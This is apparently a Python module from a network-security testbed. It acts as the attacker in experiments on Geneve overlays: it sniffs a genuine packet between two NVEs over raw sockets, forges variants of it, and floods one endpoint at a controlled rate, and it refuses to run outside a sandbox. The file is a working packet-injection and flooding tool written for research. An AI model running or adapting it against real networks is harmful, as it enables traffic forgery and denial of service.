"""The attacker's program of the flood: ``python -m experiments.dataplane.flooder``, a JSON command a line.

She sits on the wire between two NVEs, takes one true packet down, and floods one of them with forged ones. It refuses
to run outside the sandbox, so no flood can leave it.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import select
import socket
import sys
import time
from collections.abc import Sequence
from typing import Any

from experiments.attack_frames import Target
from experiments.dataplane.kinds import ELSEWHERE, forge, security_of
from geneve.header import GENEVE_PORT
from geneve.outer import build_datagram, build_frame, parse_outer
from topologies import sandbox

RING = 512
"""Different packets of a kind, sent in turn: the NVE remembers none that it refused."""
TICK_SECONDS = 0.001
_BEHIND_SECONDS = 0.02
"""What could not be sent in time is made up for so far, and forgotten beyond."""
_CLOSED_PORT = 9
_ETH_P_ALL = 0x0003
_SOL_PACKET, _PACKET_QDISC_BYPASS, _SO_SNDBUFFORCE = 263, 20, 32
_SEND_BUFFER = 1 << 24


class Pace:
    """How many packets are due: ``rate`` a second from ``begin`` on, ``left`` at most."""

    def __init__(self, rate: float, begin: float, left: int) -> None:
        self._rate, self._begin, self.left = rate, begin, left

    def take(self, now: float) -> int:
        """Return how many are to be sent now, and take them for sent."""
        # From a moment that moves on where the machine was too busy: no burst makes up for a long pause.
        self._begin = max(self._begin, now - _BEHIND_SECONDS)
        count = min(int((now - self._begin) * self._rate), self.left)
        self._begin += count / self._rate
        self.left -= count
        return count


class Flooder:
    """Captures on one port, and sends forged packets out of another."""

    def __init__(self, listen: str, send: str, seed: int) -> None:
        self._listen = listen
        self._tap: socket.socket | None = None
        self._frame = b""
        self._geneve = b""
        self._rings: dict[str, list[bytes]] = {}
        self._seed = seed
        self._out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self._out.bind((send, 0))
        self._out.setsockopt(_SOL_PACKET, _PACKET_QDISC_BYPASS, 1)
        self._out.setsockopt(socket.SOL_SOCKET, _SO_SNDBUFFORCE, _SEND_BUFFER)
        self._ring: list[bytes] = []
        self._pace: Pace | None = None
        self._began = 0.0
        self.sent = self._failed = 0

    def command(self, order: dict[str, Any]) -> dict[str, Any]:
        """Carry out one command and return the answer."""
        kind = order["do"]
        if kind == "listen":
            self._tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
            self._tap.bind((self._listen, 0))
            return {"listening": True}
        if kind == "take":
            return self._take(Target(**order["target"]), order["seconds"])
        if kind == "flood":
            return self._begin(order["kind"], float(order["rate"]), order.get("count", 1 << 62))
        if kind == "stop":
            return self._end()
        raise ValueError(f"unknown command {kind!r}")

    def _take(self, target: Target, seconds: float) -> dict[str, Any]:
        """Take down the first packet that is as wanted."""
        assert self._tap is not None
        end = time.monotonic() + seconds
        with self._tap:
            while (rest := end - time.monotonic()) > 0:
                if not select.select([self._tap], [], [], rest)[0]:
                    continue
                frame = self._tap.recv(1 << 16)
                packet = target.match(frame)
                outer = parse_outer(frame)
                if packet is not None and outer is not None:
                    self._frame, self._geneve, self._rings = frame, outer.payload(frame), {}
                    spi, number = security_of(self._geneve) if packet.options else (None, None)
                    return {"taken": True, "bytes": len(frame), "spi": spi, "number": number}
        return {"taken": False}

    def _make(self, kind: str) -> list[bytes]:
        if kind not in self._rings:
            chance = random.Random(f"{self._seed}/{kind}")
            outer = parse_outer(self._frame)
            assert outer is not None
            self._rings[kind] = [
                build_frame(
                    self._frame[6:12], self._frame[:6],
                    build_datagram(
                        outer.source, outer.destination, outer.source_port,
                        forge(kind, self._geneve, index, chance),
                        port=_CLOSED_PORT if kind == ELSEWHERE else GENEVE_PORT,
                    ),
                )
                for index in range(RING)
            ]  # fmt: skip
        return self._rings[kind]

    def _begin(self, kind: str, rate: float, count: int) -> dict[str, Any]:
        self._ring = self._make(kind)
        self.sent = self._failed = 0
        self._began = time.monotonic()
        self._pace = Pace(rate, self._began, count)
        return {"flooding": kind}

    def _end(self) -> dict[str, Any]:
        seconds = time.monotonic() - self._began
        self._pace = None
        return {"sent": self.sent, "failed": self._failed, "seconds": round(seconds, 6)}

    def tick(self) -> None:
        """Send what is due."""
        if self._pace is None:
            return
        count = self._pace.take(time.monotonic())
        ring, size, send = self._ring, len(self._ring), self._out.send
        for index in range(self.sent, self.sent + count):
            try:
                send(ring[index % size])
            except OSError:
                self._failed += 1
        self.sent += count

    @property
    def pause(self) -> float | None:
        """Seconds until something may be due; None: nothing will be."""
        return TICK_SECONDS if self._pace is not None and self._pace.left else None


def serve(flooder: Flooder) -> None:
    """Serve commands until standard input ends."""
    _say({"ready": True})
    buffered = b""
    while True:
        readable, _, _ = select.select([sys.stdin], [], [], flooder.pause)
        flooder.tick()
        if not readable:
            continue
        chunk = os.read(sys.stdin.fileno(), 1 << 16)
        if not chunk:
            return
        buffered += chunk
        while b"\n" in buffered:
            line, buffered = buffered.split(b"\n", 1)
            _say(flooder.command(json.loads(line)))


def _say(answer: dict[str, Any]) -> None:
    print(json.dumps(answer), flush=True)


def main(arguments: Sequence[str] | None = None) -> int:
    """Entry point."""
    parser = argparse.ArgumentParser(prog="experiments.dataplane.flooder", description="A flood of forged packets.")
    parser.add_argument("listen", help="the interface where true packets are seen")
    parser.add_argument("send", help="the interface out of which forged ones leave")
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args(arguments)
    if not sandbox.within():
        print("experiments.dataplane.flooder: refused: attacks run in the testbed's sandbox only.", file=sys.stderr)
        return 2
    serve(Flooder(options.listen, options.send, options.seed))
    return 0


if __name__ == "__main__":
    sys.exit(main())
